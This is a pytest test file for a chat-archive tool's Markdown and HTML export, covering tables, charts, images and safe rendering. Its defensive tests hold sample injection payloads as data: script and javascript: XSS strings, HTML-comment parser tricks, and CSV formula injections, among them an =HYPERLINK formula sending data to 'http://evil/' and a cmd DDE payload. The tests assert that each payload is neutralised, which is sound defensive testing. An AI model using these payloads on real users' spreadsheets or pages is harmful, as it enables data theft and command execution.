"""What an export shows of each kind of element, in Markdown and in HTML."""

from __future__ import annotations

import base64
import csv
import io
import json
from pathlib import Path

import pytest

from filelayer import ArchiveStore
from filelayer.cli import main
from filelayer.export.bundle import build, content
from filelayer.export.elements import plotly_script
from filelayer.export.html import markdown_html
from tests.support.export import CODE, ROWS, THREAD, every_element_archive


@pytest.fixture
def store(root: Path) -> ArchiveStore:
    return every_element_archive(root)


def thread(store: ArchiveStore) -> dict:  # type: ignore[type-arg]
    found = store.get_thread(THREAD)
    assert found is not None
    return found


def test_markdown_shows_texts_tables_and_charts(store: ArchiveStore) -> None:
    bundle = build(store, thread(store), "markdown", plotly=b"/* plotly */")
    md = bundle.text
    folder = f"{bundle.stem}.files"
    # text inline; code fenced with its language, a fence inside it cannot close it
    assert "📄 **details**\n\nDetails in **Markdown**: knead for *ten* minutes." in md
    assert "````python\n" + CODE.rstrip() + "\n````" in md
    # the dataframe: a bounded table, a note, the whole data as CSV beside
    assert "📊 **loaves** (the first 20 of 30 rows; all of it in " in md
    assert f"[loaves.csv]({folder}/_tables/table.csv)" in md
    assert "| n | name | weight | note |\n|---|---|---|---|\n| 0 | loaf 0 | 0.0 | ok |" in md
    assert "| 2 | loaf 2 | 3.0 | a\\|b |" in md
    assert "loaf 20" not in md
    whole = content(bundle.files[f"{folder}/_tables/table.csv"]).decode()
    rows = list(csv.reader(io.StringIO(whole)))
    assert rows[0] == ["n", "name", "weight", "note"] and len(rows) == ROWS + 1
    # the chart: a page that draws it with the one shared script
    assert f"📈 [bars (chart)]({folder}/_charts/chart.html)" in md
    page = content(bundle.files[f"{folder}/_charts/chart.html"]).decode()
    assert '<script src="../../plotly.min.js"></script>' in page and "Loaves per day" in page
    assert bundle.files["plotly.min.js"] == b"/* plotly */"
    # every element file is still copied, whatever the page shows of it
    for name in ("img.png", "doc.pdf", "notes.txt", "code.py", "table.json", "chart.json"):
        assert f"{folder}/{name}" in bundle.files, name
    assert f"![loaf.png]({folder}/img.png)" in md
    assert f"📎 [recipe.pdf]({folder}/doc.pdf)" in md


def test_a_file_stored_without_an_extension_is_copied_with_one(root: Path) -> None:
    store = ArchiveStore(root)
    store.write_step({"id": "m", "threadId": "t", "type": "assistant_message", "output": "x"})
    frame = b'{"columns": ["a"], "index": [0], "data": [[1]]}'
    store.put_element("t", {"id": "df", "type": "dataframe", "name": "words", "forId": "m"}, frame)
    assert store.element_file("t", "df")[1].name == "df"  # type: ignore[index]
    found = store.get_thread("t")
    assert found is not None
    bundle = build(store, found, "markdown", plotly=None)
    assert content(bundle.files[f"{bundle.stem}.files/df.json"]) == frame


def test_without_plotly_a_chart_links_to_its_json(store: ArchiveStore) -> None:
    bundle = build(store, thread(store), "markdown", plotly=None)
    assert f"📈 [bars (Plotly figure, JSON)]({bundle.stem}.files/chart.json)" in bundle.text
    assert "plotly.min.js" not in bundle.files


def test_the_html_page_escapes_everything_and_runs_nothing(store: ArchiveStore) -> None:
    bundle = build(store, thread(store), "html", plotly=b"/* plotly */")
    page = bundle.text
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert '<section class="msg user">' in page and '<section class="msg assistant">' in page
    assert "<strong>everything</strong>" in page
    assert f'<img src="{bundle.stem}.files/img.png" alt="loaf.png">' in page
    assert "<td>a|b</td>" in page and "loaf 20" not in page
    assert f'href="{bundle.stem}.files/_charts/chart.html"' in page
    assert '<details class="step"><summary>search_notes (tool)</summary>' in page
    assert f'<audio controls preload="metadata" src="{bundle.stem}.files/tone.wav">' in page


def test_markdown_html_renders_the_common_subset_safely() -> None:
    assert markdown_html("**b** _i_ `c<d>`") == (
        "<p><strong>b</strong> <em>i</em> <code>c&lt;d&gt;</code></p>"
    )
    assert markdown_html("- a\n- b") == "<ul><li>a</li><li>b</li></ul>"
    assert markdown_html("1. a\n2. b") == "<ol><li>a</li><li>b</li></ol>"
    assert 'href="https://example.com"' in markdown_html("[x](https://example.com)")
    assert "href" not in markdown_html("[x](javascript:alert(1))")
    assert markdown_html("```\n<b>\n```") == "<pre><code>&lt;b&gt;</code></pre>"
    assert markdown_html("> quoted") == "<blockquote><p>quoted</p></blockquote>"


def test_cli_exports_html_beside_markdown(
    store: ArchiveStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FILELAYER_ROOT", str(store.root))
    out = tmp_path / "out"
    assert main(["export", "--all", "-o", str(out)]) == 0
    assert main(["export", "--all", "--format", "html", "-o", str(out)]) == 0
    [md] = out.glob("*.md")
    [page] = out.glob("*.html")
    assert md.stem == page.stem
    assert (out / f"{md.stem}.files" / "img.png").exists()
    assert ((out / "plotly.min.js").exists()) == (plotly_script() is not None)
    before = {p: p.stat().st_mtime_ns for p in out.rglob("*") if p.is_file()}
    assert main(["export", "--all", "--format", "html", "-o", str(out)]) == 0
    assert {p: p.stat().st_mtime_ns for p in out.rglob("*") if p.is_file()} == before


def test_an_answer_under_the_users_message_is_its_own_bubble(store: ArchiveStore) -> None:
    """Chainlit 2 hangs the ``on_message`` run under the user's message: the answer
    still follows the question, in a bubble of its own."""
    store.write_step({"id": "r1", "threadId": THREAD, "parentId": "u1"})
    page = build(store, thread(store), "html", plotly=None).text
    user = page.index('<section class="msg user">')
    assert page.index("</section>", user) < page.index('<section class="msg assistant">')


def test_html_to_stdout_is_one_page_with_its_images_inside(
    store: ArchiveStore, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("FILELAYER_ROOT", str(store.root))
    assert main(["export", THREAD, "--format", "html"]) == 0
    page = capsys.readouterr().out
    assert page.startswith("<!DOCTYPE html>") and 'src="data:image/png;base64,' in page
    # Nothing written beside it: no link or source may point at a file that is not
    # there. The other elements say where their files are to be had instead.
    import re

    targets = re.findall(r'(?:href|src)="([^"]*)"', page)
    assert [t for t in targets if not t.startswith(("data:", "https:", "http:"))] == []
    assert "export with -o DIR" in page
    assert "Details in <strong>Markdown</strong>: knead" in page  # a text element still shows
    store.write_step({"id": "x", "threadId": "other", "type": "user_message", "output": "x"})
    assert main(["export", "--all", "--format", "html"]) == 2  # several pages need -o DIR


def test_a_page_that_stands_alone_holds_only_so_many_image_bytes(
    store: ArchiveStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Images go inside a page that stands alone as ``data:`` URLs, which the page holds
    several times over while it is made: beyond a budget, an image is linked (the app's
    page: to its element) or named as left out (a page printed alone), not put inside."""
    from filelayer.export import bundle

    def element_url(thread_id: str, element_id: str) -> str:
        return f"/element/{thread_id}/{element_id}"

    served = build(store, thread(store), "html", self_contained=True, element_url=element_url)
    assert 'src="data:image/png;base64,' in served.text
    monkeypatch.setattr(bundle, "INLINE_IMAGE_BYTES", 10)
    served = build(store, thread(store), "html", self_contained=True, element_url=element_url)
    assert "data:image" not in served.text
    assert f'href="/element/{THREAD}/img"' in served.text and "<img" not in served.text
    alone = build(store, thread(store), "html", self_contained=True)
    assert "data:image" not in alone.text and "<img" not in alone.text
    assert "loaf.png (image: its file is not in this page" in alone.text


@pytest.mark.parametrize("text", ["<!--<script>", "<!-- <script> -->", "</script><!--"])
def test_a_charts_text_cannot_swallow_the_script_that_draws_it(root: Path, text: str) -> None:
    """A chart's figure is data inside a ``<script type="application/json">``: a ``<!--``
    followed by ``<script`` in one of its strings (a title taken from a question) put
    the HTML parser in a state where the element did not end at its ``</script>``, and
    the script that draws the chart became part of the figure's text: no chart."""
    store = ArchiveStore(root)
    store.write_step({"id": "m", "threadId": "t", "type": "assistant_message", "output": "x"})
    figure = json.dumps({"data": [], "layout": {"title": {"text": text}}}).encode()
    store.put_element("t", {"id": "c", "type": "plotly", "name": "c", "forId": "m"}, figure)
    found = store.get_thread("t")
    assert found is not None
    bundle = build(store, found, "html", plotly=b"/* plotly */")
    page = content(bundle.files[f"{bundle.stem}.files/_charts/c.html"]).decode()
    start = '<script type="application/json" id="figure">'
    payload = page.split(start, 1)[1].split("</script>", 1)[0]
    assert "<!--" not in payload and "</" not in payload
    assert json.loads(payload) == json.loads(figure)


def test_a_tables_csv_cells_never_open_as_formulas(root: Path) -> None:
    """The CSV beside an export is for a person's spreadsheet, and a chat user chose the
    cells: one starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
    is a formula there (``=HYPERLINK(...)`` sends the sheet's data away). Such a text
    cell, column names included, starts with a single quote; numbers stay numbers."""
    store = ArchiveStore(root)
    store.write_step({"id": "m", "threadId": "t", "type": "assistant_message", "output": "x"})
    hostile = ['=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    doc = {"columns": ["=cmd|' /C calc'!A0", "n"], "data": [[h, -5] for h in hostile]}
    frame = json.dumps(doc).encode()
    store.put_element("t", {"id": "df", "type": "dataframe", "name": "t", "forId": "m"}, frame)
    found = store.get_thread("t")
    assert found is not None
    bundle = build(store, found, "markdown", plotly=None)
    whole = content(bundle.files[f"{bundle.stem}.files/_tables/df.csv"]).decode()
    rows = list(csv.reader(io.StringIO(whole, newline="")))
    assert rows[0] == ["'=cmd|' /C calc'!A0", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in hostile]
    assert {r[1] for r in rows[1:]} == {"-5"}  # a number is data, not a formula


def test_elements_whose_ids_differ_only_in_case_get_files_of_their_own(root: Path) -> None:
    """Element ids keep their case, and a file system that ignores it (macOS, Windows)
    makes ``DF.json`` and ``df.json`` one file: each element's copy, CSV and chart page
    gets a name no other file of the export has, ignoring case, and the page links to
    its own. (Such a pair is no longer made, but an earlier release's archive may hold
    one: made here in two archives, put together.)"""
    import shutil

    for n, (element_id, value) in enumerate((("DF", 1), ("df", 2))):
        part = ArchiveStore(root.parent / f"part-{n}")
        part.write_step({"id": "m", "threadId": "t", "type": "assistant_message", "output": "x"})
        frame = json.dumps({"columns": ["a"], "data": [[value]]}).encode()
        element = {"id": element_id, "type": "dataframe", "name": f"n{value}", "forId": "m"}
        part.put_element("t", element, frame)
        part.close()
    shutil.copytree(root.parent / "part-0", root, dirs_exist_ok=True)
    second = root.parent / "part-1" / "threads" / "t"
    lines = (second / "steps.jsonl").read_bytes().splitlines(keepends=True)
    with (root / "threads" / "t" / "steps.jsonl").open("ab") as journal:
        journal.writelines(line for line in lines if b'"element"' in line)
    for file in (second / "elements").iterdir():
        shutil.copy(file, root / "threads" / "t" / "elements" / file.name)
    store = ArchiveStore(root)
    found = store.get_thread("t")
    assert found is not None
    bundle = build(store, found, "markdown", plotly=None)
    names = [name.lower() for name in bundle.files]
    assert len(names) == len(set(names)), sorted(bundle.files)
    for value in (1, 2):
        line = next(x for x in bundle.text.splitlines() if f"**n{value}**" in x)
        target = line.split("](")[1].split(")")[0]
        assert content(bundle.files[target]).decode().splitlines()[1] == str(value)


def test_a_page_that_stands_alone_holds_each_image_once(root: Path) -> None:
    """Chainlit stores an image again for every message it is sent with: a page that
    holds its images inside it held the same bytes once per element (a 10 MB image
    sent three times made a 40 MB page, and used up the room for images). The same
    bytes are held once, in the page's style, and every element showing them refers to
    them; an image shown once stays a plain ``<img src>``."""
    from tests.support.export import png

    store = ArchiveStore(root)
    shared, single = png(61, 31), png(7, 5)
    for n in range(3):
        step = {"id": f"m{n}", "threadId": "t", "type": "assistant_message", "output": "x"}
        store.write_step(step)
        element = {"id": f"i{n}", "type": "image", "name": f"p{n}.png", "mime": "image/png"}
        store.put_element("t", {**element, "forId": f"m{n}"}, shared)
    lone = {"id": "lone", "type": "image", "name": "lone.png", "mime": "image/png", "forId": "m0"}
    store.put_element("t", lone, single)
    found = store.get_thread("t")
    assert found is not None
    page = build(store, found, "html", self_contained=True).text
    encoded = base64.b64encode(shared).decode()
    assert page.count(encoded) == 1
    style = page.split("<style>")[1].split("</style>")[0]
    assert f'content:url("data:image/png;base64,{encoded}")' in style
    for n in range(3):
        assert f'<img class="image-1" alt="p{n}.png">' in page
    lone_uri = "data:image/png;base64," + base64.b64encode(single).decode()
    assert f'<img src="{lone_uri}" alt="lone.png">' in page
